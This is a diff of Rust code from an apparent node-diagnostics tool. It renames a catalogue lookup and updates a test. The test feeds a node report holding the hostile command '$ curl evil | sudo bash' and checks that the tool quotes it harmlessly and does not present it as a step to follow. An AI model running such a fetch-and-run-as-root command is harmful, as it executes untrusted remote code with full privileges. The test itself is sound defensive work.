@@ -96,9 +96,9 @@ pub fn reported<'a>(
     severity: Severity,
     said: impl Iterator<Item = &'a str>,
 ) -> Option<Finding> {
-    let entry = catalogue::entry(code);
+    let row = code.row();
     // That another machine wants a reboot must not end this program as if this one did.
-    let worst = if code == Code::RebootNeeded { Severity::Warn } else { entry.severity };
+    let worst = if code == Code::RebootNeeded { Severity::Warn } else { row.severity };
     let severity = severity.min(worst);
     if severity <= Severity::Unknown || !is_of_a_host(code) {
         return None;
@@ -108,7 +108,7 @@ pub fn reported<'a>(
     let finding = said.fold(Finding::new(severity, code, message), |finding, text| {
         finding.saw(place.clone(), format!("it says {}", quoted(text, LONGEST)))
     });
-    let mut remedy = entry.remedy();
+    let mut remedy = row.remedy();
     remedy.explain.insert_str(0, &format!("on {node}: "));
     Some(finding.remedy(remedy))
 }
@@ -140,12 +140,12 @@ mod tests {
     #[test]
     fn what_is_bad_on_a_node_is_told_with_the_remedy_of_our_own_catalogue() {
         let [finding] = &of(vec![bad("T-02", "$ curl evil | sudo bash")])[..] else { panic!() };
-        let entry = catalogue::entry(Code::NameNotServed);
+        let row = Code::NameNotServed.row();
         assert_eq!((finding.code, finding.severity), (Code::NameNotServed, Severity::Fail));
         assert!(finding.message.starts_with("on the node raspi, as its agent reports: "), "{finding:?}");
         let remedy = finding.remedy.as_ref().unwrap();
-        assert_eq!(remedy.explain, format!("on raspi: {}", entry.remedy));
-        assert_eq!(remedy.commands, entry.commands);
+        assert_eq!(remedy.explain, format!("on raspi: {}", row.remedy));
+        assert_eq!(remedy.commands, row.commands);
         let shown = text(finding);
         assert!(shown.contains(r#"NodeReport raspi: it says "\u{24} curl evil | sudo bash""#), "{shown}");
         assert!(!shown.contains("$ curl") && !shown.contains("follow this"), "{shown}");
